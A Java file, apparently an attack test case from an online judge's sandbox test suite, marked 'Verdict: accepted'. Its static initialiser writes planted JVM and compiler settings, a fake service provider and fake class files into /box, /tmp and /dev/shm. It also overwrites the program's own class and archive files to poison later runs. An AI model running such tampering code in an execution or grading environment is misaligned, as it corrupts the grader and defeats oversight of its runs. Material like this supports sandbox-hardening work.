// Attack: exchanges the program's own archive and classes from a static initialiser, and plants settings that a virtual
// machine or its compiler may read in the next run.
// Verdict: accepted
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Scanner;

public class Main {
    static boolean poisoned;

    static {
        String[] names = {".hotspotrc", ".hotspot_compiler", "javac.args", "META-INF/services/java.nio.file.spi.FileSystemProvider",
            "Scanner.class", "java/util/Scanner.class", "META-INF/MANIFEST.MF"};
        for (String folder : new String[] {"/box", "/tmp", "/dev/shm", "/box/.java"}) {
            for (String name : names) {
                try {
                    Path path = Path.of(folder, name);
                    poisoned |= Files.exists(path);
                    Files.createDirectories(path.getParent());
                    Files.writeString(path, "-XX:+CrashOnOutOfMemoryError");
                } catch (IOException error) {
                    continue;
                }
            }
        }
        for (String name : new String[] {"Main.class", "classes.tar", "javac.jsa", "classes/Main.class"}) {
            try {
                Files.write(Path.of("/box", name), new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE});
            } catch (IOException error) {
                continue;
            }
        }
    }

    public static void main(String[] arguments) {
        System.out.println((poisoned ? "poisoned " : "unharmed ") + new Scanner(System.in).next());
    }
}
